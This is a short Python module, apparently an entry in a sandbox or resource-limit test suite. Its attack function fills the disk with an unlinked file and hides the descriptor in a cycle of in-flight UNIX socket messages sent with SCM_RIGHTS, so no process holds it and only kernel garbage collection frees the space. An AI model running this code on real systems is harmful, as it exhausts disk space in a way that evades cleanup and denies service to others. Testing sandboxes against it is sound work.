"""Hides a large file, without a name, in sockets that are on their way through each other and that nobody holds."""

import array
import os
import socket
from typing import Any

STATUS = "ok"


def attack(world: Any) -> list[str]:
    """Only the kernel's own garbage collection can find it; until then the disk is full."""
    file = os.open("hidden", os.O_CREAT | os.O_RDWR)
    os.unlink("hidden")
    for _ in range((world.limits["disk_bytes"] >> 20) - 1):
        os.write(file, bytes(2**20))
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for near, far in ((one, other), (other, one)):
        flying = array.array("i", [file, far.fileno(), near.fileno()])
        near.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, flying)])
    return []
